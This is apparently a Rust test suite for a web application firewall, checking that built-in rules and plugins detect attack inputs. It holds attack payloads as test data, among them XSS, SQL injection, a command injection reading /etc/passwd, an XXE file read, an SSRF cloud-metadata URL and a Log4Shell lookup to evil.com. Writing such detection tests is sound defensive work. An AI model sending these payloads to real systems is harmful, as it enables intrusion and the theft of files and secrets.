use biubo_waf::plugins::{
    DetectionRuleConfig, PluginConfig, PluginInstance, PluginMetadata, PluginRegistry, PluginType,
};
use biubo_waf::rules::{
    builtin_rule_sets, check_rules, check_rules_with_plugins, evaluate_plugin_rules, RuleCategory, WafRequest,
};

fn builtin(text: &str) -> (bool, Vec<String>) {
    check_rules(text, &builtin_rule_sets())
}

fn plugin_rules(text: &str, rules: &[(String, Vec<String>)]) -> Vec<String> {
    evaluate_plugin_rules(text, rules)
}

fn rule(attack: &str, patterns: &[&str]) -> (String, Vec<String>) {
    (attack.to_string(), patterns.iter().map(|p| p.to_string()).collect())
}

#[test]
fn test_compiled_rules_not_empty() {
    let sets = builtin_rule_sets();
    assert!(!sets.is_empty());
    assert_eq!(sets.len(), 9);
}

#[test]
fn test_xss_detection() {
    let (is_malicious, types) = builtin("<script>alert(1)</script>");
    assert!(is_malicious);
    assert!(types.contains(&"xss".to_string()));
}

#[test]
fn test_sql_injection_detection() {
    let (is_malicious, types) = builtin("' OR 1=1 --");
    assert!(is_malicious);
    assert!(types.contains(&"sql_injection".to_string()));
}

#[test]
fn test_path_traversal_detection() {
    let (is_malicious, types) = builtin("../../../etc/passwd");
    assert!(is_malicious);
    assert!(types.contains(&"path_traversal".to_string()));
}

#[test]
fn test_rce_detection() {
    let (is_malicious, types) = builtin("; cat /etc/passwd");
    assert!(is_malicious);
    assert!(types.contains(&"rce".to_string()));
}

#[test]
fn test_ssrf_detection() {
    let (is_malicious, types) = builtin("http://169.254.169.254/latest/meta-data/");
    assert!(is_malicious);
    assert!(types.contains(&"ssrf".to_string()));
}

#[test]
fn test_xxe_detection() {
    let (is_malicious, types) = builtin("<!ENTITY xxe SYSTEM \"file:///etc/passwd\">");
    assert!(is_malicious);
    assert!(types.contains(&"xxe".to_string()));
}

#[test]
fn test_ssti_detection() {
    let (is_malicious, types) = builtin("{{7*7}}");
    assert!(is_malicious);
    assert!(types.contains(&"ssti".to_string()));
}

#[test]
fn test_file_upload_detection() {
    let (is_malicious, types) = builtin("shell.php");
    assert!(is_malicious);
    assert!(types.contains(&"file_upload".to_string()));
}

#[test]
fn test_scanner_detection() {
    let (is_malicious, types) = builtin("sqlmap/1.0");
    assert!(is_malicious);
    assert!(types.contains(&"scanner".to_string()));
}

#[test]
fn test_normal_request() {
    let (is_malicious, types) = builtin("hello world this is a normal request");
    assert!(!is_malicious);
    assert!(types.is_empty());
}

#[test]
fn test_case_insensitive() {
    let (is_malicious, types) = builtin("<SCRIPT>ALERT(1)</SCRIPT>");
    assert!(is_malicious);
    assert!(types.contains(&"xss".to_string()));
}

#[test]
fn test_log4shell() {
    let (is_malicious, types) = builtin("${jndi:ldap://evil.com/a}");
    assert!(is_malicious);
    assert!(types.contains(&"rce".to_string()));
}

#[test]
fn test_springshell() {
    let (is_malicious, types) =
        builtin("class.module.classLoader.resources.context.parent.pipeline.first.pattern");
    assert!(is_malicious);
    assert!(types.contains(&"rce".to_string()));
}

#[test]
fn test_union_select() {
    let (is_malicious, types) = builtin("UNION SELECT 1,2,3--");
    assert!(is_malicious);
    assert!(types.contains(&"sql_injection".to_string()));
}

#[test]
fn test_multiple_attack_types() {
    let (is_malicious, types) = builtin("<script> UNION SELECT 1,2,3--");
    assert!(is_malicious);
    assert!(types.contains(&"xss".to_string()));
    assert!(types.contains(&"sql_injection".to_string()));
}

#[test]
fn test_evaluate_plugin_rules_empty() {
    let matched = plugin_rules("normal request", &[]);
    assert!(matched.is_empty());
}

#[test]
fn test_evaluate_plugin_rules_single_pattern() {
    let matched = plugin_rules("<script>alert('hi')</script>", &[rule("custom_xss", &["<script>alert"])]);
    assert!(!matched.is_empty());
    assert!(matched.contains(&"custom_xss".to_string()));
}

#[test]
fn test_evaluate_plugin_rules_multiple_patterns() {
    let matched = plugin_rules(
        "id=1 UNION SELECT * FROM users",
        &[rule("custom_sqli", &["UNION SELECT", "DROP TABLE"])],
    );
    assert!(!matched.is_empty());
    assert!(matched.contains(&"custom_sqli".to_string()));
}

#[test]
fn test_evaluate_plugin_rules_no_match() {
    let matched = plugin_rules("normal request content", &[rule("custom_attack", &["malicious_payload_12345"])]);
    assert!(matched.is_empty());
}

#[test]
fn test_evaluate_plugin_rules_case_insensitive() {
    let matched = plugin_rules("UNION SELECT 1,2,3", &[rule("custom_cmd", &["union select"])]);
    assert!(!matched.is_empty());
}

#[test]
fn test_evaluate_plugin_rules_multiple_attack_types() {
    let matched = plugin_rules(
        "<script> UNION SELECT",
        &[rule("custom_xss", &["<script>"]), rule("custom_sqli", &["UNION SELECT"])],
    );
    assert!(matched.len() >= 2);
    assert!(matched.contains(&"custom_xss".to_string()));
    assert!(matched.contains(&"custom_sqli".to_string()));
}

#[test]
fn test_check_rules_with_plugins_builtin_only() {
    let registry = PluginRegistry::new();
    let (is_malicious, types) = check_rules_with_plugins("<script>alert(1)</script>", &registry);
    assert!(is_malicious);
    assert!(types.contains(&"xss".to_string()));
}

#[test]
fn test_check_rules_with_plugins_normal_request() {
    let registry = PluginRegistry::new();
    let (is_malicious, types) = check_rules_with_plugins("hello world", &registry);
    assert!(!is_malicious);
    assert!(types.is_empty());
}

#[test]
fn test_check_rules_with_plugins_deduplication() {
    let registry = PluginRegistry::new();
    let (is_malicious, types) = check_rules_with_plugins("<script>alert(1)</script>", &registry);
    assert!(is_malicious);
    let xss_count = types.iter().filter(|t| t.as_str() == "xss").count();
    assert_eq!(xss_count, 1);
}

fn detection_plugin(name: &str, attack: &str, patterns: &[&str]) -> PluginInstance {
    PluginInstance::new(
        PluginMetadata {
            name: name.to_string(),
            version: "1.0".to_string(),
            description: String::new(),
            author: String::new(),
            plugin_type: PluginType::Detection,
        },
        PluginConfig::Detection(DetectionRuleConfig {
            patterns: patterns.iter().map(|p| p.to_string()).collect(),
            attack_type: attack.to_string(),
        }),
    )
}

#[test]
fn rules_enabled_plugin_adds_its_type_once() {
    let mut registry = PluginRegistry::new();
    registry.register(detection_plugin("p1", "xss", &["alert\\("])).unwrap();
    registry.register(detection_plugin("p2", "custom_probe", &["probe-[0-9]+"])).unwrap();
    registry.enable("p1").unwrap();
    registry.enable("p2").unwrap();
    let (m, types) = check_rules_with_plugins("<script>alert(1)</script> probe-42", &registry);
    assert!(m);
    assert_eq!(types.iter().filter(|t| t.as_str() == "xss").count(), 1);
    assert!(types.contains(&"custom_probe".to_string()));
    registry.disable("p2").unwrap();
    let (_, types) = check_rules_with_plugins("probe-42", &registry);
    assert!(!types.contains(&"custom_probe".to_string()));
}

#[test]
fn rules_category_names() {
    assert_eq!(RuleCategory::Xss.as_str(), "xss");
    assert_eq!(RuleCategory::Custom.as_str(), "custom");
}

#[test]
fn rules_detection_string_layout() {
    let r = WafRequest {
        url: "/A".to_string(),
        method: "GET".to_string(),
        headers: vec![("Host".to_string(), "X".to_string())],
        query_params: vec![("q".to_string(), "V".to_string())],
        body: "B".to_string(),
        cookies: vec![("c".to_string(), "D".to_string())],
    };
    assert_eq!(r.to_detection_string(), "/a get host=x q=v b c=d");
}

#[test]
fn category_names_are_distinct() {
    let all = all_categories();
    let names: std::collections::HashSet<&str> = all.iter().map(|c| c.as_str()).collect();
    assert_eq!(names.len(), 26);
    assert_eq!(RuleCategory::SqlInjection.as_str(), "sql_injection");
    assert_eq!(RuleCategory::HttpSmuggling.as_str(), "http_smuggling");
    assert_eq!(RuleCategory::NodejsAttack.as_str(), "nodejs_attack");
}

fn all_categories() -> Vec<RuleCategory> {
    vec![
        RuleCategory::Xss, RuleCategory::SqlInjection, RuleCategory::Rce, RuleCategory::Lfi, RuleCategory::Rfi,
        RuleCategory::PathTraversal, RuleCategory::Ssti, RuleCategory::Xxe, RuleCategory::CommandInjection,
        RuleCategory::Scanner, RuleCategory::Bot, RuleCategory::HttpSmuggling, RuleCategory::SessionFixation,
        RuleCategory::Csrf, RuleCategory::ApiAbuse, RuleCategory::PhpAttack, RuleCategory::JavaAttack,
        RuleCategory::NodejsAttack, RuleCategory::WordpressAttack, RuleCategory::Deserialization,
        RuleCategory::CveExploit, RuleCategory::BotSignature, RuleCategory::ProtocolValidation,
        RuleCategory::MethodEnforcement, RuleCategory::RequestAnomaly, RuleCategory::Custom,
    ]
}
